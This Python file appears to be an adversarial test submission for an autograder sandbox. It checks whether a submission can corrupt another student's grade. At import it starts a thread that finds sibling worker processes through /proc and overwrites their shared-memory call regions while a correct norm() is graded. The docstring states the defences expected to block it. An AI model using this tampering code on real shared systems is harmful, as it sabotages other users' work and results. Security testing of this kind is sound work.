"""Hostile (another student's verdict): in a batch, reach the other workers of the same uid
(``--sandbox none`` runs every worker as the grader's uid) and overwrite the arguments of that
student's calls: a thread started at import opens each ``memfd:andrea-grade-call`` region (and
the kept-array arena) of every other worker through ``/proc/<pid>/fd`` and writes over them
while the grader's calls are under way. It reports what it could open. norm() is correct.

Expected: nothing of another worker can be opened (each worker makes itself non-dumpable,
PR_SET_DUMPABLE 0, before the submission runs: its /proc entries belong to root then), and the
other student's grade is what it is alone. Under bubblewrap the workers do not even see each
other (PID namespaces, no /proc).
"""
import json
import os
import threading
import time

import numpy as np

_opened = []
_refused = []


def _regions():
    me = os.getpid()
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    except OSError:
        return []
    out = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"worker.py" not in f.read():
                    continue
        except OSError:
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            _refused.append(pid)
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if "andrea-grade-call" in target or "andrea-grade-args" in target:
                out.append(f"/proc/{pid}/fd/{fd}")
    return out


def _spoil():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for path in _regions():
            try:
                fd = os.open(path, os.O_RDWR)
            except OSError:
                if path not in _refused:
                    _refused.append(path)
                continue
            try:
                size = os.fstat(fd).st_size
                if path not in _opened:
                    _opened.append(path)
                for off in range(0, min(size, 1 << 20), 4096):
                    os.pwrite(fd, b"\x7f" * 64, off)
            except OSError:
                pass
            finally:
                os.close(fd)
        time.sleep(0.001)


_thread = threading.Thread(target=_spoil, daemon=True)
_thread.start()
time.sleep(0.5)   # a first sweep
print("NEIGHBOUR-REPORT " + json.dumps({"opened": len(_opened), "refused": len(_refused)}),
      flush=True)


def norm(v):
    time.sleep(0.2)   # keep the thread working while the other student is graded
    return float(np.linalg.norm(np.asarray(v, dtype=np.float64)))
